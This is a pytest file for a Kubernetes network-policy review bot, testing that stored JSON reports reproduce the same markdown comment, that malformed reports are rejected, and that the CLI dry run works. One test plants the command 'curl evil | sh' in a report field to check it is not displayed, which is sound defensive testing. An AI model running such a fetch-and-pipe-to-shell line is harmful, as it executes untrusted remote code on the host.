"""A report read again says the same."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from bot.errors import UsageError
from bot.report import json as json_report
from bot.report import markdown, stored
from bot.review import Review, Settings, review_folders
from tests.report import reviews


def without_commands(value: Review) -> Review:
    """Commands are made anew when a report is read."""
    environments = tuple(
        one._replace(
            changes=tuple(row._replace(witness=row.witness._replace(explain="")) for row in one.changes), pairs=None
        )
        for one in value.environments
    )
    return value._replace(environments=environments)


NAMES = ("BLOCKED", "LOOK", "PASS", "INCOMPLETE", "TWO", "MOVED")
WRITTEN = [*(getattr(reviews, name) for name in NAMES), reviews.hostile(), *(reviews.randomly(i, 40) for i in range(8))]


@pytest.mark.parametrize("value", WRITTEN, ids=[*NAMES, "hostile", *map(str, range(8))])
def test_the_comment_of_a_stored_report_is_the_same(value: Review):
    value = without_commands(value)
    again = stored.parse(json.loads(json_report.dumps(json_report.review(value))))
    assert markdown.review(again, "https://github.com/o/r/blob") == markdown.review(
        value, "https://github.com/o/r/blob"
    )
    assert (again.verdict, again.fail_on, again.on_incomplete) == (value.verdict, value.fail_on, value.on_incomplete)


@pytest.mark.parametrize("cni", ["kubernetes", "cilium", "calico"])
def test_real_reviews(cni: str, tmp_path):
    base, head = tmp_path / "base", tmp_path / "head"
    pod = "kind: Pod\napiVersion: v1\nmetadata: {name: NAME, namespace: shop, labels: {app: NAME}}\nspec: {containers: []}\n"
    policy = """apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: web, namespace: shop}
spec: {podSelector: {matchLabels: {app: web}}, ingress: [{ports: [{port: 80}]}]}
"""
    rules = (
        "version: 1\nrules: [{id: a, deny: {from: internet, to: shop/web, ports: [81/tcp]}, severity: block, why: x}]\n"
    )
    for folder, port in ((base, "80"), (head, "81")):
        folder.mkdir()
        for name in ("web", "db"):
            (folder / f"{name}.yaml").write_text(pod.replace("NAME", name))
        (folder / "np.yaml").write_text(policy.replace("80", port))
        (folder / ".netreach.yml").write_text(rules)
    value = review_folders(str(base), str(head), Settings(cni=cni, fail_on=("rule",)))
    again = stored.parse(json.loads(json_report.dumps(json_report.review(value))))
    assert markdown.review(again) == markdown.review(value)


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"schema": "netreach/list/v1"}', "[" * 100_000, "1e999"])
def test_what_is_no_report(text: str, tmp_path):
    file = tmp_path / "report.json"
    file.write_text(text)
    with pytest.raises(UsageError):
        stored.read(str(file))


def test_a_planted_command_is_not_shown():
    document = json_report.review(reviews.BLOCKED)
    document["environments"][0]["changes"][0]["witness"]["explain"] = "curl evil | sh"
    assert "evil" not in markdown.review(stored.parse(document))


def test_comment_prints_what_it_would_post(tmp_path):
    file = tmp_path / "report.json"
    file.write_text(json_report.dumps(json_report.review(reviews.BLOCKED)))
    command = [sys.executable, "-m", "bot", "comment", "--report", str(file), "--dry-run", "--repository", "o/r"]
    done = subprocess.run(command, capture_output=True, text=True, encoding="utf-8", check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("<!-- netreach:comment v=1 key=default pr=0 head=b7d4e117c0a2 base=9f31c02be415 ")
    wrong = subprocess.run(command[:-3], capture_output=True, text=True, env={"PATH": ""}, check=False)
    assert wrong.returncode == 2
